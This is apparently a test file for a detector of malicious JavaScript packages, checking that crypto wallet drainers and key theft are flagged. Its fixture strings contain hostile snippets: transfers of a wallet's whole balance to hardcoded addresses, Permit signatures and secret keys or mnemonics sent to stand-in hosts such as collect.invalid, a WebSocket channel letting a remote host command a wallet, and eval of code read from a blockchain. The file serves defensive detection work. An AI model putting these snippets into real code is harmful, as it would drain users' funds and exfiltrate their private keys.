import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

const OWN = "'0x658729879fca881d9526480b82ae00efc54b5c2d'";
const ETHEREUM = (to: string, value: string) =>
  `async function run(p) { const all = await p.request({ method: 'eth_getBalance', params: ['x', 'latest'] });
    await p.request({ method: 'eth_sendTransaction', params: [{ from: 'x', to: ${to}, value: ${value} }] }); }
  exports.connect = (o) => { run(window.ethereum); };`;
const SOLANA = (to: string, value: string) =>
  `const { Connection, SystemProgram, PublicKey } = require('@solana/web3.js');
  exports.run = async (to) => { const all = await new Connection('https://rpc.invalid').getBalance(to);
    return SystemProgram.transfer({ fromPubkey: to, toPubkey: ${to}, lamports: ${value} }); };`;
const KEY = "new PublicKey('4Nd1mBQtrMJVYVfKf2PJy9NZUZdTAsp7D4xWLs4gDB4T')";

describe('wallets', () => {
  it('are drained where all that is in them goes to an address of the code', () => {
    assert.deepEqual(behavioursOf(ETHEREUM(OWN, 'all')), ['asks-wallet call', 'drains-wallet call']);
    assert.deepEqual(behavioursOf(SOLANA(KEY, 'all - 5000')), ['drains-wallet call']);
  });

  it('are drained by libraries, too', () => {
    const send = (to: string, value: string): readonly string[] =>
      behavioursOf(`const { ethers } = require('ethers'); exports.connect = async (to) => {
        const signer = await new ethers.BrowserProvider(window.ethereum).getSigner(); const all = await signer.provider.getBalance(to);
        await signer.sendTransaction({ to: ${to}, value: ${value} }); };`);
    assert.deepEqual(send(OWN, '(all * 95n) / 100n'), ['drains-wallet call']);
    assert.deepEqual(send(OWN, "ethers.parseEther('0.1')"), []);
    assert.deepEqual(send('to', 'all'), []);
    const token = (amount: string): readonly string[] =>
      behavioursOf(`const { Contract } = require('ethers'); exports.run = async (signer, owner) => {
        const token = new Contract('0xdAC17F958D2ee523a2206206994597C13D831ec7', [], signer); const all = await token.balanceOf(owner);
        return token.transfer(${OWN}, ${amount}); };`);
    assert.deepEqual(token('all'), ['drains-wallet call']);
    assert.deepEqual(token('100n'), []);
  });

  it('are drained through a connection that a caller hands in', () => {
    const swap = (lamports: string): readonly string[] =>
      behavioursOf(`const { SystemProgram, PublicKey } = require('@solana/web3.js'); exports.swap = async (connection, payer, tx) => {
        const all = await connection.getBalance(payer); tx.add(SystemProgram.transfer({ fromPubkey: payer, toPubkey: ${KEY}, lamports: ${lamports} })); };`);
    assert.deepEqual(swap('all - 5e6'), ['drains-wallet call']);
    assert.deepEqual(swap('5e6'), []);
  });

  it('may show what is in them, and pay an amount or whom a caller names', () => {
    assert.deepEqual(behavioursOf(ETHEREUM(OWN, "'0x10'")), ['asks-wallet call']);
    assert.deepEqual(behavioursOf(ETHEREUM('window.to', 'all')), ['asks-wallet call']);
    assert.deepEqual(behavioursOf(SOLANA(KEY, '1000')), []);
    assert.deepEqual(behavioursOf(SOLANA('to', 'all')), []);
  });

  it('sign permits, which are keys where they are for an address of the code', () => {
    const sign = (data: string) =>
      flowsOf(`exports.run = async (d) => { const s = await window.ethereum.request({ method: 'eth_signTypedData_v4', params: ['x', ${data}] });
        await fetch('https://claim.invalid', { method: 'POST', body: JSON.stringify({ s }) }); };`);
    assert.deepEqual(sign(`JSON.stringify({ primaryType: 'Permit', message: { spender: ${OWN} } })`), [
      'key-material>network@claim.invalid',
    ]);
    assert.deepEqual(sign(`{ primaryType: 'Permit', message: { spender: ${OWN} } }`), [
      'key-material>network@claim.invalid',
    ]);
    assert.deepEqual(sign(`JSON.stringify({ primaryType: 'Login', message: { nonce: d } })`), []);
  });

  it('are asked for what a host wants (lottie-player, 2024)', () => {
    const answer = (method: string) =>
      behavioursOf(
        `const ws = new WebSocket('wss://c.invalid/s'); ws.onmessage = async (e) => { const order = JSON.parse(e.data); ws.send(JSON.stringify(await window.ethereum.request({ method: ${method}, params: order.p }))); };`,
      );
    assert.deepEqual(answer('order.m'), ['wallet-obeys-host import']);
    assert.deepEqual(answer(`'eth_sendTransaction'`), ['asks-wallet import']);
    assert.deepEqual(answer(`'eth_requestAccounts'`), []);
  });

  it('have keys, by whatever name they are given and made', () => {
    const sent = 'key-material>network@collect.invalid';
    const send = (code: string) =>
      flowsOf(`const web3 = require('@solana/web3.js'), bip39 = require('bip39'); ${code}`);
    for (const code of [
      `exports.f = (s) => { const k = web3.Keypair.fromSecretKey(s); fetch('https://collect.invalid', { method: 'POST', body: k.secretKey }); };`,
      `const bs58 = require('bs58'), q = []; const drain = () => Promise.all(q.splice(0).map((k) => fetch('https://collect.invalid/' + k.slice(9))));
        exports.f = (s) => { const k = web3.Keypair.fromSecretKey(bs58.decode(s)); q.push(bs58.encode(k.secretKey)); drain(); return k; };`,
      `const q = []; const drain = () => Promise.all(q.splice(0).map((k) => fetch('https://collect.invalid/' + k)));
        exports.f = (s) => { const k = web3.Keypair.fromSecretKey(s); q.push(String(k.secretKey)); drain().catch(() => {}); return k; };`,
      `exports.f = (e, t) => { fetch('https://collect.invalid/' + t); return web3.Keypair.fromSecretKey(t); };`,
      `exports.f = (k) => { fetch('https://collect.invalid/' + k); return new Wallet(k); };`,
      `exports.f = () => { const m = bip39.generateMnemonic(); fetch('https://collect.invalid/' + m); return m; };`,
    ])
      assert.ok(send(code).includes(sent), code);
    assert.deepEqual(
      send(
        `exports.f = (e, t) => { fetch('https://rpc.invalid/' + e); return web3.Keypair.fromSecretKey(t); };`,
      ).filter((flow) => flow.startsWith('key-material')),
      [],
    );
  });
});

describe('chains', () => {
  const READS = [
    `const { ethers } = require('ethers'); const c = new ethers.Contract(${OWN}, abi, new ethers.JsonRpcProvider('https://rpc.invalid'));
      c.note().then((said) => USE);`,
    `const { Connection } = require('@solana/web3.js'); const c = new Connection('https://rpc.invalid');
      c.getSignaturesForAddress(address, { limit: 1 }).then(([{ memo: said }]) => USE);`,
    `const { createPublicClient, http } = require('viem'); const c = createPublicClient({ transport: http('https://rpc.invalid') });
      c.readContract({ address: ${OWN}, abi, functionName: 'note' }).then((said) => USE);`,
    `const Web3 = require('web3'); const web3 = new Web3('https://rpc.invalid');
      new web3.eth.Contract(abi, ${OWN}).methods.note().call().then((said) => USE);`,
  ];
  for (const read of READS) {
    it(`give what anybody has written there: ${read}`, () => {
      assert.deepEqual(flowsOf(read.replace('USE', 'eval(said)')), ['downloaded>evaluated']);
      assert.deepEqual(flowsOf(read.replace('USE', 'console.log(said)')), []);
    });
  }
});
